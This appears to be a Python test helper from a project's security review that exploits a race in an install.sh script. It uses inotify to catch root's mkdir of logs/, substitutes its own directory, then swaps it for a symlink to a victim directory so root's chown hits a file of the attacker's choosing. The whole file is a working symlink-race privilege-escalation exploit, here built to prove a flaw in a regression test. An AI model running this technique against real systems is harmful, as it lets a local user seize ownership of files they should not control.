#!/usr/bin/env python3
"""The routes directory's owner racing install.sh for its logs/ (issue 16's security review).

Usage, as that owner: logs-swap.py ROUTES_DIR VICTIM_DIR NAME

Waits, through inotify, for root's `mkdir logs`, puts a directory of its own in its place holding
a file NAME, and when that directory is opened (root's find listing it) exchanges it with a
symbolic link to VICTIM_DIR, so that a chown of logs/NAME by path lands on VICTIM_DIR/NAME.
Prints "ready" once it watches; event-driven, no timing. Killed by the test when install.sh ends.
"""
import ctypes
import os
import struct
import sys

IN_OPEN = 0x20
IN_CREATE = 0x100
RENAME_EXCHANGE = 2
AT_FDCWD = -100

libc = ctypes.CDLL(None, use_errno=True)
routes_dir, victim_dir, name = sys.argv[1:4]
logs = os.path.join(routes_dir, "logs")
mine = os.path.join(routes_dir, "mine")
link = os.path.join(routes_dir, "link")
os.mkdir(mine, 0o755)
os.chmod(mine, 0o755)
open(os.path.join(mine, name), "w").close()
os.symlink(victim_dir, link)

inotify = libc.inotify_init1(0)
in_routes_dir = libc.inotify_add_watch(inotify, routes_dir.encode(), IN_CREATE)
in_mine = libc.inotify_add_watch(inotify, mine.encode(), IN_OPEN)
if inotify < 0 or in_routes_dir < 0 or in_mine < 0:
    sys.exit("inotify: " + os.strerror(ctypes.get_errno()))
print("ready", flush=True)


def events():
    while True:
        data = os.read(inotify, 65536)
        offset = 0
        while offset < len(data):
            wd, mask, _cookie, length = struct.unpack_from("iIII", data, offset)
            offset += 16
            yield wd, mask, data[offset:offset + length].rstrip(b"\0").decode()
            offset += length


stage = "mkdir"
for wd, mask, entry in events():
    if stage == "mkdir" and wd == in_routes_dir and mask & IN_CREATE and entry == "logs":
        os.rename(mine, logs)  # over root's new, empty logs/
        print("replaced logs", flush=True)
        stage = "open"
    elif stage == "open" and wd == in_mine and mask & IN_OPEN:
        if libc.renameat2(AT_FDCWD, logs.encode(), AT_FDCWD, link.encode(), RENAME_EXCHANGE) != 0:
            sys.exit("renameat2: " + os.strerror(ctypes.get_errno()))
        print("swapped", flush=True)
        break
